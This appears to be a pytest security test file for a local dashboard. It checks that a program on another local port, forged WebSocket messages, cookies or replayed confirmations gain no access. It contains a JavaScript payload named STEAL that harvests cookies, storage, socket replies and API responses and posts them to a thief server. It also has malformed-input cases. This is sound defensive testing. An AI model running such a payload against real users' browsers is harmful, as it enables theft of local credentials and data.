"""Attacks on the dashboard: what another port, another program or a replayed message can get out of it."""

import contextlib
import json
import socket
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Self

import httpx
import pytest
from websockets.exceptions import ConnectionClosed

from protocol.errors import Code, InvalidParamsError
from sidecar.transports.web.tabs import ASKED_AGAIN, VALID_FOR, Confirmations
from tests import chromium
from tests.support import NOON, Repository
from tests.webs import BRIEF, Dashboard, Tab, Visitor, see_it_serves

pytestmark = pytest.mark.slow

UNKNOWN, TOO_LATE = 4401, 4408


@pytest.fixture
def dashboard(repository: Repository) -> Iterator[Dashboard]:
    repository.commit("begin", at=NOON)
    with Dashboard(repository.path) as dashboard:
        yield dashboard


class Thief:
    """Another program with a web server at another port of this machine; it notes all that it is sent."""

    def __init__(self) -> None:
        self.headers: list[dict[str, str]] = []
        self.bodies: list[bytes] = []
        thief = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._note()
                self._answer(b"<!doctype html><title>thief</title>")

            def do_POST(self) -> None:
                self._note()
                thief.bodies.append(self.rfile.read(int(self.headers["content-length"])))
                self._answer(b"")

            def log_message(self, *_: object) -> None:
                pass

            def _note(self) -> None:
                thief.headers.append({name.lower(): value for name, value in self.headers.items()})

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_address[1]}"

    def __enter__(self) -> Self:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self.server.shutdown()
        self.server.server_close()


STEAL = """(async (dashboard) => {
  const read = (path, more) => fetch(dashboard + path, { credentials: "include", ...more })
    .then((answer) => answer.text(), () => "");
  const heard = await new Promise((resolve) => {
    const socket = new WebSocket(`${dashboard.replace("http", "ws")}/rpc`);
    socket.onopen = () => socket.send('{"jsonrpc":"2.0","id":1,"method":"threadline/status","params":{}}');
    socket.onmessage = ({ data }) => resolve(data);
    socket.onclose = () => resolve("");
  });
  const frame = Object.assign(document.createElement("iframe"), { src: dashboard });
  document.body.append(frame);
  await new Promise((resolve) => frame.addEventListener("load", resolve));
  const loot = [
    document.cookie, document.referrer, heard, ...Object.values(sessionStorage), ...Object.values(localStorage),
    await read("/api/checkpoints"), await read("/session", { method: "POST", body: "{}" }),
    await read("/"), await read("/api/checkpoints", { mode: "no-cors" }),
    frame.contentDocument?.body.textContent ?? "",
  ];
  await fetch("/loot", { method: "POST", body: JSON.stringify(loot) });
})"""


@pytest.mark.skipif(chromium.PROGRAM is None, reason="chromium is missing")
def test_another_local_port_receives_nothing_usable(dashboard: Dashboard, tmp_path: Path) -> None:
    """S5: a browser sends the cookies of one port of a machine to all of its ports."""
    token = dashboard.told["url"].partition("#")[2]
    with Thief() as thief, chromium.browse(tmp_path / "profile") as page:
        page.open(dashboard.told["url"])
        page.wait("location.pathname === '/'")
        assert token not in " ".join([*page.history(), page.evaluate("location.href")])
        assert page.evaluate("document.cookie") == ""
        assert page.command("Network.getAllCookies")["cookies"] == []
        assert page.evaluate("Object.values(sessionStorage).some((value) => value.length === 43)")
        page.open(thief.address)
        page.wait(f"location.origin === '{thief.address}' && document.body !== null")
        page.evaluate(f"{STEAL}('{dashboard.address}')")
    assert thief.headers
    assert [sent for sent in thief.headers if "cookie" in sent or "authorization" in sent] == []
    assert [
        sent["referer"] for sent in thief.headers if dashboard.address in sent.get("referer", "")
    ] == []
    (loot,) = thief.bodies
    assert [piece for piece in json.loads(loot) if piece] == []
    assert dashboard.is_serving()


@pytest.mark.skipif(chromium.PROGRAM is None, reason="chromium is missing")
def test_a_tab_survives_a_reload_and_a_second_one_is_shown_the_door(
    dashboard: Dashboard, tmp_path: Path
) -> None:
    """The secret belongs to one tab of one origin, and a used invitation is worth nothing."""
    enter = "document.getElementById('words')?.textContent"
    with chromium.browse(tmp_path / "profile") as page:
        page.open(dashboard.told["url"])
        page.wait("location.pathname === '/'")
        secret = page.evaluate("sessionStorage.getItem('threadline.secret')")
        page.evaluate("window.isOld = true")
        page.command("Page.reload")
        page.wait("!window.isOld && document.readyState === 'complete'")
        assert page.evaluate("sessionStorage.getItem('threadline.secret')") == secret
        visitor = Visitor(f"127.0.0.1:{dashboard.port}", dashboard.address, secret)
        with visitor.open_tab() as tab:
            see_it_serves(tab)
    with chromium.browse(tmp_path / "other profile") as page:
        page.open(dashboard.told["url"])
        page.wait(f"{enter}?.includes('was used already')")
        assert page.evaluate("sessionStorage.length") == 0


def closed(tab: Tab) -> int:
    """Wait until a socket is closed without a word; return the code."""
    with pytest.raises(ConnectionClosed) as ended:
        tab.socket.recv(BRIEF)
    assert ended.value.rcvd is not None
    return ended.value.rcvd.code


def enter(secret: object, method: str = "dashboard/enter") -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": 1, "method": method, "params": {"secret": secret}}


@pytest.mark.parametrize(
    "first",
    [
        {"jsonrpc": "2.0", "id": 1, "method": "threadline/projects/list", "params": {}},
        {"jsonrpc": "2.0", "id": 1, "method": "threadline/purge", "params": {"everything": True}},
        enter("A" * 43),
        enter(""),
        enter(None),
        enter(["<SECRET>"]),
        enter("<BEARER>"),
        enter("<TOKEN>"),
        enter("<SECRET>", method="threadline/status"),
        {"method": "dashboard/enter", "params": {"secret": "<SECRET>"}},
        [enter("<SECRET>")],
        "nonsense",
        "",
        b"\xff\xfe",
        "[" * 900 + "]" * 900,
        json.dumps(enter("<SECRET>")) + " " * 2000,
    ],
    ids=lambda first: str(first)[:60],
)
def test_a_socket_without_the_secret_first_is_closed_and_hears_nothing(
    known: tuple[Dashboard, Visitor], first: Any
) -> None:
    """S5."""
    dashboard, visitor = known
    message = first if isinstance(first, str | bytes) else json.dumps(first)
    if isinstance(message, str):
        message = message.replace("<SECRET>", visitor.secret).replace("<BEARER>", dashboard.bearer)
    if "<TOKEN>" in str(message):
        message = str(message).replace("<TOKEN>", dashboard.invite())
    with visitor.knock() as tab:
        tab.send(message)
        assert closed(tab) == UNKNOWN


@pytest.fixture(scope="module")
def known(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Dashboard, Visitor]]:
    folder = tmp_path_factory.mktemp("known")
    home = {"THREADLINE_HOME": str(folder / "home")}
    with Dashboard(folder, environment=home) as dashboard:
        yield dashboard, dashboard.visit()


def test_a_cookie_grants_nothing(known: tuple[Dashboard, Visitor]) -> None:
    """S5: whatever secret is in it, by whatever name."""
    dashboard, visitor = known
    answer = visitor.show(dashboard.invite())
    assert "set-cookie" not in answer.headers
    cookies = {"cookie": answer.headers.get("set-cookie", "").partition(";")[0]}
    for value in (visitor.secret, dashboard.bearer, dashboard.invite()):
        for name in (f"threadline-{dashboard.port}", "secret", "token", "Authorization"):
            cookies["cookie"] += f"; {name}={value}"
    assert httpx.get(f"{dashboard.address}/api/checkpoints", headers=cookies).status_code == 401
    with visitor.knock(**cookies) as tab:
        tab.ask(1, "threadline/projects/list", everywhere=True)
        assert closed(tab) == UNKNOWN


def test_silent_sockets_are_closed_and_keep_nobody_out(known: tuple[Dashboard, Visitor]) -> None:
    """S17: those who say nothing make room for those who do."""
    _, visitor = known
    with contextlib.ExitStack() as held:
        silent = [held.enter_context(visitor.knock()) for _ in range(40)]
        with visitor.open_tab() as tab:
            see_it_serves(tab)
        assert [closed(stranger) for stranger in silent] == [TOO_LATE] * 40


def test_half_open_connections_do_not_mute_it(known: tuple[Dashboard, Visitor]) -> None:
    """S17: 150 connections that never ask anything."""
    dashboard, visitor = known
    idle = [socket.create_connection(("127.0.0.1", dashboard.port)) for _ in range(150)]
    try:
        began = time.monotonic()
        assert visitor.get("/").status_code == 200
        with visitor.open_tab() as tab:
            see_it_serves(tab)
        assert time.monotonic() - began < 5
    finally:
        for connection in idle:
            connection.close()


DEEDS: list[tuple[str, dict[str, Any]]] = [
    ("threadline/purge", {"everything": True}),
    ("threadline/memories/forget", {"memoryIds": ["01M7NJMPF7VBV3SANV2PBPQ0AF"]}),
    ("threadline/rules/write", {"target": "agents"}),
    ("threadline/rules/refresh", {}),
    ("threadline/rules/remove", {"target": "agents"}),
]


@pytest.mark.parametrize(("method", "params"), DEEDS, ids=[method for method, _ in DEEDS])
def test_what_cannot_be_undone_is_refused_without_a_confirmation(
    dashboard: Dashboard, repository: Repository, method: str, params: dict[str, Any]
) -> None:
    """S5: one message with the secret is not enough to purge or to write a rules file."""
    assert {name for name, _ in DEEDS} == ASKED_AGAIN
    visitor = dashboard.visit()
    with visitor.open_tab() as tab, visitor.open_tab() as other:
        tab.request("threadline/memories/write", type="decision", title="a", content="harbour")
        of_another_tab = other.request("dashboard/confirm", method=method, params=params)
        of_more = tab.request("dashboard/confirm", method=method, params={**params, "force": True})
        wrong: list[dict[str, Any]] = [{}, {"confirmation": "A" * 22}, {"confirmation": True}]
        for given in (*wrong, of_another_tab, of_more):
            tab.ask(1, method, **params, **given)
            error = tab.receive()["error"]
            assert (error["code"], error["data"]["field"]) == (Code.INVALID_PARAMS, "confirmation")
        assert tab.request("threadline/memories/list")["total"] == 1
    assert not (repository.path / "AGENTS.md").exists()


def test_a_confirmation_serves_one_request_once(
    dashboard: Dashboard, repository: Repository
) -> None:
    """A replayed message finds its confirmation used."""
    method, params = "threadline/rules/write", {"target": "agents"}
    with dashboard.visit().open_tab() as tab:
        tab.request("threadline/memories/write", type="constraint", title="a", content="harbour")
        given = tab.request("dashboard/confirm", method=method, params=params)
        tab.request(method, **params, **given)
        rules = repository.path / "AGENTS.md"
        assert rules.exists()
        rules.unlink()
        tab.ask(1, method, **params, **given)
        assert tab.receive()["error"]["data"]["field"] == "confirmation"
        assert not rules.exists()
        tab.ask(2, "dashboard/confirm", method="threadline/status", params={})
        assert tab.receive()["error"]["code"] == Code.INVALID_PARAMS


@pytest.mark.parametrize(("waited", "is_good"), [(VALID_FOR, True), (VALID_FOR + 0.1, False)])
def test_a_confirmation_is_good_for_a_short_time(waited: float, is_good: bool) -> None:
    now = [100.0]
    confirmations = Confirmations(lambda: now[0])
    given = confirmations.give("threadline/purge", {"b": 1, "a": 2})
    now[0] += waited
    with contextlib.nullcontext() if is_good else pytest.raises(InvalidParamsError):
        confirmations.take(given, "threadline/purge", {"a": 2, "b": 1})
